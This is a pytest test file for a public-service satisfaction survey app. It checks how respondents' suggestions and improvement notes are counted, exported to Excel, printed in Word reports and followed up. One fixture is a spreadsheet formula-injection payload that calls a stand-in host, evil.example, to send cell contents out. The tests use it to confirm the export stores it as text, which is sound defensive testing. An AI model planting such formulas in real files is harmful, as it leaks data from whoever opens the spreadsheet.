"""Saran dan masukan and "Apa yang perlu diperbaiki?" (issue 14): stored, shown and counted per unsur on the
period's page, exported (as text, never formulas), printed in the Word report; the rencana tindak lanjut
entered by the sekcam, printed in the report, and its completion in the next period's report."""
from __future__ import annotations

import io
import re
from datetime import date

import pytest
import sqlalchemy as sa
from docx import Document
from openpyxl import load_workbook

from conftest import get_user
from iku_workflow.domain import skm
from iku_workflow.extensions import db
from iku_workflow.models import ResponseSource, Section, SurveyFollowUp
from iku_workflow.reports.skm_report import CARRIED_HEADERS, COUNT_HEADERS, RTL_HEADERS
from iku_workflow.survey.operations import Answers, add_response, open_period

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


def _answer(period, answers, saran="", perbaikan=None):
    first = period.services[0]
    from iku_workflow.domain.dates import period_range

    values = Answers(tanggal=period_range(period.year, period.label)[0], service_id=first.id, jenis_kelamin="L",
                     usia=40, pendidikan="SMA", pekerjaan="SWASTA", answers=answers, saran=saran,
                     perbaikan=perbaikan or {})
    return add_response(period, values, source=ResponseSource.PUBLIC)


def _fill(period):
    _answer(period, (4, 1, 4, 4, 4, 4, 4, 4, 2), saran="Ruang tunggu panas",
            perbaikan={"u2": "Syarat tidak ditempel", "u9": "Kotak pengaduan tidak ada"})
    _answer(period, (4, 2, 4, 4, 4, 4, 4, 4, 4), perbaikan={"u2": "Syarat berubah-ubah", "u4": "tidak dipakai: 4"})
    _answer(period, (3, 3, 3, 3, 3, 3, 3, 3, 3), saran=HYPERLINK)


pytestmark = pytest.mark.skm_period(fill=_fill)


def _docx(client, period):
    response = client.get(f"/skm/periode/{period.id}/laporan.docx")
    assert response.status_code == 200
    return Document(io.BytesIO(response.data))


def _table(doc, headers):
    return next((t for t in doc.tables if [c.text for c in t.rows[0].cells] == list(headers)), None)


def _rows(table):
    return [[c.text for c in r.cells] for r in table.rows[1:]]


def test_notes_are_counted_and_shown_on_the_period_page(client_as, period):
    html = client_as("camat").get(f"/skm/periode/{period.id}").get_data(as_text=True)
    counts = dict(re.findall(r'data-count="(\w+)">(\d+)<', html))
    assert counts["u2"] == "2" and counts["u9"] == "1" and counts["u4"] == "0" and counts["saran"] == "2"
    assert "Syarat tidak ditempel" in html and "Kotak pengaduan tidak ada" in html and "Ruang tunggu panas" in html
    assert "tidak dipakai: 4" not in html  # an answer of 4 asks nothing


def test_notes_are_exported_as_text(client_as, period):
    response = client_as("camat").get(f"/skm/periode/{period.id}/ekspor.xlsx")
    wb = load_workbook(io.BytesIO(response.data))
    sheet = wb["Saran"]
    rows = [[c.value for c in r] for r in sheet.iter_rows(min_row=2)]
    assert sorted((r[2], r[4], r[5]) for r in rows) == sorted([
        ("saran", None, "Ruang tunggu panas"), ("U2", 1, "Syarat tidak ditempel"),
        ("U9", 2, "Kotak pengaduan tidak ada"), ("U2", 2, "Syarat berubah-ubah"), ("saran", None, HYPERLINK)])
    hostile = next(c for r in sheet.iter_rows(min_row=2) for c in r if c.value == HYPERLINK)
    assert hostile.data_type == "s"  # text, not a formula
    hasil = [[c.value for c in r] for r in wb["Hasil"].iter_rows()]
    start = next(i for i, r in enumerate(hasil) if r[2] == "Catatan perlu diperbaiki (responden)")
    assert [(r[0], r[2]) for r in hasil[start + 1:start + 11]] == [
        ("U1", 0), ("U2", 2), ("U3", 0), ("U4", 0), ("U5", 0), ("U6", 0), ("U7", 0), ("U8", 0), ("U9", 1),
        ("Saran", 2)]


def test_notes_are_in_the_word_report(client_as, period):
    doc = _docx(client_as("camat"), period)
    counts = _rows(_table(doc, COUNT_HEADERS))
    assert counts[1][0] == "U2" and counts[1][2] == "2" and counts[8][2] == "1" and counts[9][1:] == [
        "Saran dan masukan", "2"]
    texts = [p.text for p in doc.paragraphs]
    assert "U2 perlu diperbaiki: Syarat tidak ditempel" in texts and "Saran: Ruang tunggu panas" in texts
    assert f"Saran: {HYPERLINK}" in texts


def _section(office, code="pelayanan"):
    return db.session.scalar(sa.select(Section).where(Section.office_id == office.id, Section.code == code))


def test_the_sekcam_enters_the_follow_up_and_the_report_prints_it(client_as, period, office):
    sekcam = client_as("sekcam")
    page = sekcam.get(f"/skm/periode/{period.id}").get_data(as_text=True)
    assert 'data-testid="followup-form"' in page and '<option selected value="u2">' in page  # the weakest first
    section = _section(office)
    response = sekcam.post(f"/skm/periode/{period.id}/tindak-lanjut", data={
        "unsur": "u2", "action": "Memasang papan persyaratan di loket", "section": str(section.id),
        "due_date": "2026-03-31"})
    assert response.status_code == 302
    refused = sekcam.post(f"/skm/periode/{period.id}/tindak-lanjut", data={"unsur": "u9", "action": "",
                                                                           "due_date": ""})
    assert refused.status_code == 422 and "Isi rencana tindak lanjut." in refused.get_data(as_text=True)
    assert client_as("camat").post(f"/skm/periode/{period.id}/tindak-lanjut", data={
        "unsur": "u9", "action": "x", "due_date": "2026-03-31"}).status_code == 403
    item = db.session.scalars(sa.select(SurveyFollowUp)).one()
    assert (item.unsur, item.section_id, item.due_date, item.done_at) == ("u2", section.id, date(2026, 3, 31), None)
    rtl = _rows(_table(_docx(sekcam, period), RTL_HEADERS))
    assert rtl == [["1.", f"U2 {skm.UNSUR[1].name}", "Memasang papan persyaratan di loket", "31 Maret 2026",
                    section.short_name]]


def test_the_next_period_reports_how_many_were_done(client_as, period, office):
    from iku_workflow.survey import followup

    section = _section(office)
    items = [followup.add(period, key, f"Tindakan {key}", section, date(2026, 12, 31), get_user("sekcam"))
             for key in ("u2", "u9", "u3")]
    db.session.commit()
    sekcam = client_as("sekcam")
    for item in items[:2]:
        assert sekcam.post(f"/skm/periode/{period.id}/tindak-lanjut/{item.id}/selesai").status_code == 302
    db.session.expire_all()
    assert [i.done_at is not None for i in followup.of_period(period)] == [True, True, False]
    later_year, later_label = (period.year, "S2") if period.label == "S1" else (period.year + 1, "S1")
    nxt = open_period(office.id, later_year, later_label, user=get_user("sekcam"))
    db.session.commit()
    doc = _docx(sekcam, nxt)
    texts = [p.text for p in doc.paragraphs]
    assert f"Tindak lanjut periode sebelumnya ({period.title}): 2 dari 3 selesai." in texts
    carried = _rows(_table(doc, CARRIED_HEADERS))
    assert [r[4].startswith("Selesai") for r in carried] == [True, True, False]
    assert carried[2][4].startswith("Belum (batas 31 Desember 2026")
    page = sekcam.get(f"/skm/periode/{nxt.id}").get_data(as_text=True)
    assert "2 dari 3 selesai" in page
    # the period itself has no previous one: nothing carried
    assert not any("Tindak lanjut periode sebelumnya" in t for t in (p.text for p in _docx(sekcam, period).paragraphs))


def test_a_paper_questionnaire_carries_its_saran(client_as, period):
    from iku_workflow.domain.dates import period_range
    from iku_workflow.models import SurveyComment

    data = {"tanggal": period_range(period.year, period.label)[0].isoformat(),
            "jenis_layanan": str(period.services[0].id), "jenis_kelamin": "P", "usia": "35", "pendidikan": "SMA",
            "pekerjaan": "WIRAUSAHA", **{f"u{i}": "4" for i in range(1, 10)}, "saran": "Ditulis di kertas"}
    response = client_as("sekcam").post(f"/skm/periode/{period.id}/entri", data=data)
    assert response.status_code == 302
    assert db.session.scalars(sa.select(SurveyComment.text).where(SurveyComment.text == "Ditulis di kertas")).one()


def test_an_import_may_carry_a_saran_column(period):
    from iku_workflow.domain.dates import period_range
    from iku_workflow.models import SurveyComment
    from iku_workflow.survey import importer

    day = period_range(period.year, period.label)[0].isoformat()
    service = period.services[0].name
    head = "tanggal;jenis_layanan;jenis_kelamin;usia;pendidikan;pekerjaan;u1;u2;u3;u4;u5;u6;u7;u8;u9;saran\n"
    body = (f"{day};{service};L;30;SMA;SWASTA;4;4;4;4;4;4;4;4;4;Loket kedua sering kosong\n"
            f"{day};{service};P;41;SMA;SWASTA;3;3;3;3;3;3;3;3;3;\n")
    before = db.session.scalar(sa.select(sa.func.count()).select_from(SurveyComment))
    batch = importer.import_file(period, (head + body).encode(), "kertas.csv", user=get_user("sekcam"))
    db.session.commit()
    assert batch.rows == 2
    added = db.session.execute(sa.select(SurveyComment.unsur, SurveyComment.text, SurveyComment.response_id)
                               .order_by(SurveyComment.id).offset(before)).all()
    assert [(u, t) for u, t, _ in added] == [(None, "Loket kedua sering kosong")]
    from iku_workflow.models import SurveyResponse

    assert db.session.get(SurveyResponse, added[0][2]).usia == 30  # attached to its own row
    bad = head + f"{day};{service};L;30;SMA;SWASTA;4;4;4;4;4;4;4;4;4;{'x' * 1001}\n"
    with pytest.raises(importer.ImportRejected) as refused:
        importer.import_file(period, bad.encode(), "panjang.csv", user=get_user("sekcam"))
    db.session.rollback()
    assert any(i.column == "saran" and "paling panjang" in i.message for i in refused.value.issues)
